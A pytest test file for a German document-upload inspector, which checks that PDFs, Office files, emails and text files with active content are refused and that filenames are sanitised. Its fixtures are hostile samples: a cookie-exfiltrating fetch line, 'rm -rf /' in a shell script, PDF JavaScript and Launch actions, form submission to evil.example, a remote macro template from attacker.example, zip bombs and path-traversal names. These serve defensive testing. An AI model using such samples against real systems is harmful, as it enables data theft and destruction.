"""Tests for krm.documents.inspection; every fixture is built in code."""

from __future__ import annotations

import gzip
import io
import math
import struct
import zipfile
from collections.abc import Callable
from email.message import EmailMessage
from typing import Any

import docx
import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from krm.documents import inspection
from krm.documents.inspection import FileRefused, Inspected, inspect, safe_filename

# --------------------------------------------------------------------------------------------
# Fixture builders
# --------------------------------------------------------------------------------------------


def make_pdf(build: Callable[[pikepdf.Pdf], None] | None = None, **save: object) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    if build:
        build(pdf)
    out = io.BytesIO()
    pdf.save(out, **save)
    return out.getvalue()


def make_image(fmt: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(out, fmt)
    return out.getvalue()


def make_docx() -> bytes:
    document = docx.Document()
    document.add_paragraph("Sehr geehrte Damen und Herren, ich beschwere mich.")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def make_zip(entries: dict[str, bytes | str], stored_first: str | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if stored_first:
            archive.writestr(stored_first, entries[stored_first], zipfile.ZIP_STORED)
        for name, content in entries.items():
            if name != stored_first:
                archive.writestr(name, content)
    return out.getvalue()


def rewrite_zip(data: bytes, replace: dict[str, bytes | str]) -> bytes:
    """Copy a zip, replacing or adding the entries in `replace`."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        entries: dict[str, bytes | str] = {n: source.read(n) for n in source.namelist()}
    entries.update(replace)
    return make_zip(entries)


def ooxml(main_type: str, part: str = "/word/document.xml") -> bytes:
    types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="{part}" ContentType="{main_type}"/></Types>'
    )
    return make_zip({"[Content_Types].xml": types, part.lstrip("/"): "<x/>"})


def odf(mimetype: str, extra: dict[str, bytes | str] | None = None) -> bytes:
    entries: dict[str, bytes | str] = {"mimetype": mimetype, "content.xml": "<office/>"}
    entries.update(extra or {})
    return make_zip(entries, stored_first="mimetype")


def make_eml(subject_first: bool = False) -> bytes:
    message = EmailMessage()
    if subject_first:
        message["Subject"] = "Beschwerde über die Wartezeit"
    message["From"] = "Erika Mustermann <erika@example.org>"
    message["To"] = "jobcenter@example.org"
    message["Date"] = "Mon, 01 Dec 2025 10:00:00 +0100"
    if not subject_first:
        message["Subject"] = "Beschwerde über die Wartezeit"
    message.set_content("Sehr geehrte Damen und Herren,\n\nich warte seit Wochen.\n")
    return message.as_bytes()


_FREE, _END, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
_DIRENTRY = struct.Struct("<64sHBBIII16sIQQIQ")


def make_ole(streams: dict[str, bytes]) -> bytes:
    """A minimal compound file (CFB v3, 512-byte sectors). Keys are stream paths with "/"
    between storages; streams are padded to 4096 bytes so that no mini stream is needed.
    Siblings form a degenerate (right-only) tree, which olefile and libmagic accept."""
    root: dict = {"name": "Root Entry", "type": 5, "kids": {}, "data": b""}
    for path, content in streams.items():
        node = root
        *storages, leaf = path.split("/")
        for storage in storages:
            node = node["kids"].setdefault(
                storage, {"name": storage, "type": 1, "kids": {}, "data": b""}
            )
        node["kids"][leaf] = {"name": leaf, "type": 2, "kids": {}, "data": content.ljust(4096)}
    entries: list[dict] = []

    def flatten(node: dict) -> None:
        node["sid"] = len(entries)
        entries.append(node)
        for kid in node["kids"].values():
            flatten(kid)

    flatten(root)
    dir_sectors = math.ceil(len(entries) / 4)
    data_sectors = sum(math.ceil(len(e["data"]) / 512) for e in entries)
    fat_sectors = math.ceil((dir_sectors + data_sectors + 1) / 127)
    fat = [_FATSECT] * fat_sectors

    def chain(sectors: int) -> int:
        start = len(fat)
        fat.extend([*range(start + 1, start + sectors), _END])
        return start

    dir_start = chain(dir_sectors)
    body = b""
    for entry in entries:
        sectors = math.ceil(len(entry["data"]) / 512)
        entry["start"] = chain(sectors) if sectors else (_END if entry["type"] == 5 else 0)
        body += entry["data"].ljust(sectors * 512, b"\0")
    fat += [_FREE] * (fat_sectors * 128 - len(fat))
    directory = b""
    for entry in entries:
        kids = list(entry["kids"].values())
        for index, kid in enumerate(kids):
            kid["right"] = kids[index + 1]["sid"] if index + 1 < len(kids) else _NOSTREAM
        name = entry["name"].encode("utf-16-le") + b"\0\0"
        directory += _DIRENTRY.pack(
            name, len(name), entry["type"], 1, _NOSTREAM, entry.get("right", _NOSTREAM),
            kids[0]["sid"] if kids else _NOSTREAM, b"\0" * 16, 0, 0, 0, entry["start"],
            len(entry["data"]),
        )  # fmt: skip
    unused = _DIRENTRY.pack(
        b"", 0, 0, 0, _NOSTREAM, _NOSTREAM, _NOSTREAM, b"\0" * 16, 0, 0, 0, 0, 0
    )
    directory += unused * (dir_sectors * 4 - len(entries))
    difat = [*range(fat_sectors), *[_FREE] * (109 - fat_sectors)]
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII109I", bytes.fromhex("D0CF11E0A1B11AE1"), b"\0" * 16, 0x3E, 3,
        0xFFFE, 9, 6, b"\0" * 6, 0, fat_sectors, dir_start, 0, 4096, _END, 0, _END, 0, *difat,
    )  # fmt: skip
    return header + struct.pack(f"<{len(fat)}I", *fat) + directory + body


def refused(name: str, data: bytes) -> str:
    with pytest.raises(FileRefused) as info:
        inspect(name, data)
    assert info.value.message == str(info.value)
    return info.value.message


@pytest.fixture
def one_megabyte_limit(settings: Any) -> None:
    settings.KRM_MAX_UPLOAD_BYTES = 1024 * 1024


# --------------------------------------------------------------------------------------------
# Accepted files
# --------------------------------------------------------------------------------------------


def test_plain_pdf_is_accepted() -> None:
    assert inspect("Bescheid.pdf", make_pdf()) == Inspected(
        "application/pdf", ".pdf", "Bescheid.pdf", "pdf"
    )


@pytest.mark.parametrize(
    ("fmt", "content_type", "extension"),
    [("PNG", "image/png", ".png"), ("JPEG", "image/jpeg", ".jpg"), ("TIFF", "image/tiff", ".tiff")],
)
def test_scans_are_accepted(fmt: str, content_type: str, extension: str) -> None:
    result = inspect(f"Scan{extension}", make_image(fmt))
    assert (result.content_type, result.extension, result.category) == (
        content_type,
        extension,
        "image",
    )


def test_misnamed_harmless_file_gets_the_sniffed_type_and_extension() -> None:
    result = inspect("scan.jpg", make_image("PNG"))
    assert (result.content_type, result.filename) == ("image/png", "scan.png")
    assert inspect("Antrag.pdf", make_docx()).filename == "Antrag.docx"


@pytest.mark.parametrize(
    ("main_type", "part", "extension"),
    [
        (inspection.DOCX.content_type + ".main+xml", "/word/document.xml", ".docx"),
        (inspection.XLSX.content_type + ".main+xml", "/xl/workbook.xml", ".xlsx"),
        (inspection.PPTX.content_type + ".main+xml", "/ppt/presentation.xml", ".pptx"),
    ],
)
def test_ooxml_documents_are_accepted(main_type: str, part: str, extension: str) -> None:
    result = inspect("Tabelle", ooxml(main_type, part))
    assert (result.extension, result.category) == (extension, "office")


def test_real_docx_is_accepted() -> None:
    assert inspect("Widerspruch.docx", make_docx()).extension == ".docx"


@pytest.mark.parametrize(("kind"), [inspection.ODT, inspection.ODS, inspection.ODP])
def test_opendocument_files_are_accepted(kind: inspection._Kind) -> None:
    result = inspect("Dokument.odt", odf(kind.content_type))
    assert (result.content_type, result.extension) == (kind.content_type, kind.extension)


@pytest.mark.parametrize("subject_first", [False, True], ids=["rfc822", "sniffed-as-text"])
def test_eml_is_accepted(subject_first: bool) -> None:
    result = inspect("Mail von Frau M.eml", make_eml(subject_first))
    assert (result.content_type, result.extension, result.category) == (
        "message/rfc822",
        ".eml",
        "email",
    )


def test_outlook_msg_is_accepted() -> None:
    data = make_ole(
        {
            "__properties_version1.0": b"\0" * 32,
            "__substg1.0_0037001F": "Beschwerde".encode("utf-16-le"),
            "__substg1.0_1000001F": "Guten Tag".encode("utf-16-le"),
        }
    )
    result = inspect("Beschwerde.msg", data)
    assert (result.content_type, result.extension, result.category) == (
        "application/vnd.ms-outlook",
        ".msg",
        "email",
    )


@pytest.mark.parametrize(
    ("stream", "extension"),
    [("WordDocument", ".doc"), ("Workbook", ".xls"), ("PowerPoint Document", ".ppt")],
)
def test_legacy_office_without_macros_is_accepted(stream: str, extension: str) -> None:
    result = inspect("alt.doc", make_ole({stream: b"\xec\xa5" + b"\0" * 64, "1Table": b"t"}))
    assert (result.extension, result.category) == (extension, "office")


@pytest.mark.parametrize("encoding", ["utf-8", "latin-1", "cp1252"])
def test_plain_text_is_accepted(encoding: str) -> None:
    text = "Sehr geehrte Damen und Herren,\nich bitte um Rückruf – Grüße aus Köln.\n"
    result = inspect("Notiz.txt", text.encode(encoding, errors="replace"))
    assert (result.content_type, result.extension, result.category) == (
        "text/plain",
        ".txt",
        "text",
    )


# --------------------------------------------------------------------------------------------
# Size
# --------------------------------------------------------------------------------------------


def test_empty_file_is_refused() -> None:
    assert "leer" in refused("Bescheid.pdf", b"")


def test_oversized_file_is_refused_naming_the_limit(one_megabyte_limit: None) -> None:
    message = refused("Scan.pdf", b"%PDF-1.4\n" + b"0" * (2 * 1024 * 1024))
    assert "2,0 MB groß" in message and "erlaubten 1 MB" in message


# --------------------------------------------------------------------------------------------
# Markup, scripts, programs, archives, unknown formats
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("brief.pdf", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
        ("brief.txt", b"<div onclick='steal()'>Hallo</div>"),
        ("brief.txt", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>'),
    ],
    ids=["html-as-pdf", "fragment-as-txt", "xhtml"],
)
def test_html_is_refused_whatever_the_name(name: str, data: bytes) -> None:
    message = refused(name, data)
    assert "HTML" in message and f"„{name}“" in message


@pytest.mark.parametrize(
    "data",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>',
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
        b"<script>alert(document.cookie)</script></svg>",
        b'<?xml version="1.0"?><x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script/></x:svg>',
    ],
    ids=["harmless", "script", "prefixed-namespace"],
)
def test_any_svg_is_refused(data: bytes) -> None:
    message = refused("Logo.png", data)
    assert "SVG" in message and "PDF, TIFF, JPEG oder PNG" in message


def test_xml_is_refused() -> None:
    assert "XML" in refused("daten.xml", b'<?xml version="1.0"?><antrag><id>1</id></antrag>')


def test_javascript_is_refused() -> None:
    assert "JavaScript" in refused("hilfe.js", b"var x = document.cookie;\nfetch('/x?' + x);\n")


@pytest.mark.parametrize(
    "data",
    [
        b"\x7fELF\x02\x01\x01\x00" + b"\0" * 120,
        b"MZ\x90\x00" + b"\0" * 56 + struct.pack("<I", 64) + b"PE\0\0" + b"\0" * 64,
        b"\xcf\xfa\xed\xfe" + b"\0" * 60,
    ],
    ids=["elf", "pe", "mach-o"],
)
def test_executables_are_refused(data: bytes) -> None:
    assert "ausführbares Programm" in refused("Bescheid.pdf", data)


@pytest.mark.parametrize(
    "data", [b"#!/bin/sh\nrm -rf /\n", b"#!/opt/werkzeug/run\nstart\n"], ids=["sh", "unknown"]
)
def test_scripts_are_refused(data: bytes) -> None:
    assert "Skript" in refused("notiz.txt", data)


@pytest.mark.parametrize(
    "data",
    [make_zip({"a.pdf": b"%PDF-1.4"}), gzip.compress(b"hallo")],
    ids=["zip", "gzip"],
)
def test_archives_are_refused(data: bytes) -> None:
    assert "Archiv" in refused("Unterlagen.docx", data)


def test_unknown_bytes_are_refused() -> None:
    message = refused("daten.pdf", b"\x00\x01\x02\x03" * 100)
    assert "Dateiformat" in message and "nicht angenommen" in message


def test_other_image_formats_are_refused() -> None:
    assert "Bildformat" in refused("foto.gif", make_image("GIF"))


def test_text_with_binary_control_bytes_is_refused() -> None:
    assert "keine lesbare Textdatei" in refused("notiz.txt", "Grüße".encode("utf-16"))


def test_text_needs_the_txt_extension() -> None:
    assert ".txt" in refused("liste.csv", b"Name;Datum\nMeier;01.12.2025\n")


@pytest.mark.parametrize(
    "data",
    [b"Hallo,\nwie besprochen.\n", b"Betreff: Termin\nDatum: heute\n\nHallo\n"],
    ids=["no-headers", "no-from"],
)
def test_eml_without_header_block_is_refused(data: bytes) -> None:
    assert "keine gültige E-Mail" in refused("mail.eml", data)


# --------------------------------------------------------------------------------------------
# PDF with active content
# --------------------------------------------------------------------------------------------


def js_action(pdf: pikepdf.Pdf) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def open_action_js(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = js_action(pdf)


def names_js(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("start"), js_action(pdf)]))
    )


def page_aa_js(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("x()")))


def link_action(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def build(pdf: pikepdf.Pdf) -> None:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 50, 50], A=action)
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])

    return build


@pytest.mark.parametrize(
    ("build", "reason"),
    [
        (open_action_js, "JavaScript"),
        (names_js, "JavaScript"),
        (page_aa_js, "JavaScript"),
        (link_action(Dictionary(JS=String("app.alert(1)"))), "JavaScript"),
        (lambda pdf: setattr(pdf.Root, "Names", Dictionary(JavaScript=Dictionary())), "JavaScript"),
        (link_action(Dictionary(S=Name.Launch, F=String("cmd.exe"))), "Programmaufrufe"),
        (
            link_action(Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))),
            "Formular-Datenübertragungen",
        ),
        (
            lambda pdf: setattr(
                pdf.pages[0].obj,
                "AA",
                Dictionary(O=Dictionary(S=Name.URI, URI=String("https://tracker.example"))),
            ),
            "automatisch ausgelöste Aktionen",
        ),
    ],
    ids=[
        "openaction-js",
        "names-js",
        "page-aa-js",
        "bare-js-key",
        "empty-js-name-tree",
        "launch",
        "submitform",
        "aa-uri",
    ],
)
def test_pdf_with_active_content_is_refused(
    build: Callable[[pikepdf.Pdf], None], reason: str
) -> None:
    message = refused("Antrag.pdf", make_pdf(build))
    assert "aktive Inhalte" in message and reason in message and "„Antrag.pdf“" in message


def test_pdf_javascript_is_found_behind_hex_escaped_names() -> None:
    data = make_pdf(open_action_js)
    data = data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
    assert b"/JavaScript" not in data and b"/JS " not in data
    assert "JavaScript" in refused("harmlos.pdf", data)


def test_pdf_javascript_is_found_inside_object_streams() -> None:
    data = make_pdf(page_aa_js, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"/JS" not in data  # compressed away
    assert "JavaScript" in refused("harmlos.pdf", data)


def attach(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["rechnung.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ")


def bare_embedded_files_tree(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array()))


@pytest.mark.parametrize("build", [attach, bare_embedded_files_tree], ids=["attachment", "tree"])
def test_pdf_with_embedded_files_is_refused(build: Callable[[pikepdf.Pdf], None]) -> None:
    message = refused("Mappe.pdf", make_pdf(build))
    assert "eingebettete Dateien" in message and "einzeln hoch" in message


@pytest.mark.parametrize("user_password", ["b", ""], ids=["user-password", "owner-only"])
def test_encrypted_pdf_is_refused(user_password: str) -> None:
    data = make_pdf(encryption=pikepdf.Encryption(owner="a", user=user_password))
    assert "verschlüsselt" in refused("geheim.pdf", data)


def test_damaged_pdf_is_refused() -> None:
    assert "beschädigt" in refused("kaputt.pdf", make_pdf()[:200])


# --------------------------------------------------------------------------------------------
# Office macros and zip bombs
# --------------------------------------------------------------------------------------------

_DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
_DOCX_MAIN = inspection.DOCX.content_type + ".main+xml"


def macro_docx(*, vba: bool, content_type: bool) -> bytes:
    data = make_docx()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        types = archive.read("[Content_Types].xml").decode()
    replace: dict[str, bytes | str] = {}
    if content_type:
        replace["[Content_Types].xml"] = types.replace(_DOCX_MAIN, _DOCM_MAIN)
    if vba:
        replace["word/vbaProject.bin"] = make_ole({"VBA/dir": b"\x01"})
    return rewrite_zip(data, replace)


@pytest.mark.parametrize(
    ("vba", "content_type"),
    [(True, True), (True, False), (False, True)],
    ids=["docm-renamed", "vbaproject-only", "macro-content-type-only"],
)
def test_macro_enabled_ooxml_is_refused(vba: bool, content_type: bool) -> None:
    assert "Makros" in refused("Brief.docx", macro_docx(vba=vba, content_type=content_type))


def test_opendocument_with_basic_macros_is_refused() -> None:
    data = odf(inspection.ODT.content_type, {"Basic/Standard/Module1.xml": "<script/>"})
    assert "Makros" in refused("Brief.odt", data)


def test_legacy_word_with_vba_is_refused() -> None:
    data = make_ole(
        {
            "WordDocument": b"\xec\xa5" + b"\0" * 64,
            "Macros/PROJECT": b'ID="{0}"\r\nDocument=ThisDocument/&H00000000\r\n',
            "Macros/VBA/ThisDocument": b'\x01\x00\x00Attribut\x00e VB_Name = "ThisDocument"',
        }
    )
    assert "Makros" in refused("Brief.doc", data)


def test_ole_file_that_is_not_msg_or_office_is_refused() -> None:
    message = refused("Beschwerde.msg", make_ole({"Irgendwas": b"x", "__substg1.0_0037001F": b""}))
    assert "nicht angenommen" in message


def test_password_protected_office_file_is_refused() -> None:
    data = make_ole({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"\0" * 16})
    assert "verschlüsselt" in refused("Gehalt.xlsx", data)


def test_office_zip_with_huge_declared_size_is_refused(one_megabyte_limit: None) -> None:
    types = f'<Types><Override PartName="/word/document.xml" ContentType="{_DOCX_MAIN}"/></Types>'
    data = make_zip({"[Content_Types].xml": types, "word/document.xml": bytes(21 * 1024 * 1024)})
    assert len(data) < 1024 * 1024
    assert "ungewöhnlich groß" in refused("bombe.docx", data)


def test_office_zip_with_too_many_entries_is_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("mimetype", inspection.ODT.content_type)
        for number in range(inspection.ZIP_MAX_ENTRIES):
            archive.writestr(f"p/{number}", b"")
    assert "ungewöhnlich vielen Teilen" in refused("viele.odt", out.getvalue())


# --------------------------------------------------------------------------------------------
# safe_filename
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "extension", "expected"),
    [
        ("../../etc/passwd", ".pdf", "passwd.pdf"),
        ("C:\\Users\\Meier\\Desktop\\Widerspruch.DOCX", ".docx", "Widerspruch.docx"),
        ("Scan\x00\x1b[31m rot\u202egpj.exe", ".png", "Scan[31m rotgpj.png"),
        ('a<b>c:d"e|f?g*h.txt', ".txt", "abcdefgh.txt"),
        ("  Brief \t an\n  Amt .pdf", ".pdf", "Brief an Amt.pdf"),
        ("...", ".pdf", "Dokument.pdf"),
        ("..\\..\\", ".pdf", "Dokument.pdf"),
        (".htaccess", ".txt", "htaccess.txt"),
        ("Bescheid Mu\u0308ller Grüße.pdf", ".pdf", "Bescheid Müller Grüße.pdf"),
        ("Antrag 2024.12", "pdf", "Antrag 2024.12.pdf"),
    ],
)
def test_safe_filename(name: str, extension: str, expected: str) -> None:
    assert safe_filename(name, extension) == expected


def test_safe_filename_cuts_long_names_to_120_characters() -> None:
    result = safe_filename("ä" * 300 + ".jpeg", ".jpg")
    assert len(result) == 120 and result == "ä" * 116 + ".jpg"


def test_messages_name_the_sanitised_file() -> None:
    message = refused("..\\..\\<Brief>:\x07 1.pdf", b"<html><script>x</script></html>")
    assert "„Brief 1.pdf“" in message


# --------------------------------------------------------------------------------------------
# What a file carries inside (review findings): attachments, embedded objects, remote links
# --------------------------------------------------------------------------------------------

PE = b"MZ" + b"\x00" * 58 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x00" * 200


def eml_with(attachment_name: str, payload: bytes, maintype: str, subtype: str) -> bytes:
    message = EmailMessage()
    message["From"] = "Erika Mustermann <erika@example.org>"
    message["To"] = "jobcenter@example.org"
    message["Date"] = "Mon, 01 Dec 2025 10:00:00 +0100"
    message["Subject"] = "Nachweise"
    message.set_content("Anbei meine Nachweise.")
    message.add_attachment(payload, maintype=maintype, subtype=subtype, filename=attachment_name)
    return message.as_bytes()


def test_an_email_with_a_harmless_attachment_is_accepted() -> None:
    data = eml_with("Nachweis.pdf", make_pdf(), "application", "pdf")
    assert inspect("mail.eml", data).content_type == "message/rfc822"


@pytest.mark.parametrize(
    ("name", "payload", "maintype", "subtype", "reason"),
    [
        ("Bescheid.pdf.exe", PE, "application", "octet-stream", "Programm"),
        ("Nachweis.html", b"<html><script>alert(1)</script></html>", "text", "html", "Webseite"),
        ("Unterlagen.zip", make_zip({"a.txt": "x"}), "application", "zip", "Archiv"),
    ],
    ids=["programm", "webseite", "archiv"],  # the zip's bytes hold a time: no ids from them
)
def test_an_email_with_a_refused_attachment_is_refused(
    name: str, payload: bytes, maintype: str, subtype: str, reason: str
) -> None:
    message = refused("mail.eml", eml_with(name, payload, maintype, subtype))
    assert "Anhang, der nicht angenommen wird" in message
    assert name.split(".")[0] in message


def test_an_office_file_with_an_embedded_program_is_refused() -> None:
    data = rewrite_zip(make_docx(), {"word/embeddings/oleObject1.bin": PE})
    assert "eingebettete Datei" in refused("bericht.docx", data)
    packaged = make_ole({"\x01Ole10Native": b"\x00" * 64})
    data = rewrite_zip(make_docx(), {"word/embeddings/oleObject1.bin": packaged})
    assert "eingebettete Datei" in refused("bericht.docx", data)
    data = rewrite_zip(make_docx(), {"word/media/payload.js": "alert(1)"})
    assert "payload.js" in refused("bericht.docx", data)


def test_an_office_file_loading_a_remote_template_is_refused() -> None:
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://attacker.example/evil.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    data = rewrite_zip(make_docx(), {"word/_rels/settings.xml.rels": rels})
    assert "von außerhalb" in refused("vorlage.docx", data)
    # An ordinary external hyperlink is no such thing.
    link = rels.replace("attachedTemplate", "hyperlink")
    assert inspect("link.docx", rewrite_zip(make_docx(), {"word/_rels/settings.xml.rels": link}))


def test_a_macro_content_type_written_with_character_references_is_found() -> None:
    types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.'
        'macro&#69;nabled.main+xml"/></Types>'
    )
    data = make_zip({"[Content_Types].xml": types, "word/document.xml": "<x/>"})
    assert "Makro" in refused("bericht.docx", data)


def test_pdf_actions_that_open_other_files_or_run_3d_scripts_are_refused() -> None:
    def remote(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\server\\share\\x.pdf"), D=pikepdf.Array([0])
        )

    def three_d(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].Annots = pdf.make_indirect(
            pikepdf.Array(
                [
                    pikepdf.Dictionary(
                        Type=pikepdf.Name.Annot,
                        Subtype=pikepdf.Name("/3D"),
                        Rect=pikepdf.Array([0, 0, 10, 10]),
                        **{
                            "/3DD": pikepdf.Dictionary(OnInstantiate=pikepdf.String("app.alert(1)"))
                        },
                    )
                ]
            )
        )

    assert "Verweise auf andere Dateien" in refused("verweis.pdf", make_pdf(remote))
    assert "JavaScript" in refused("modell.pdf", make_pdf(three_d))
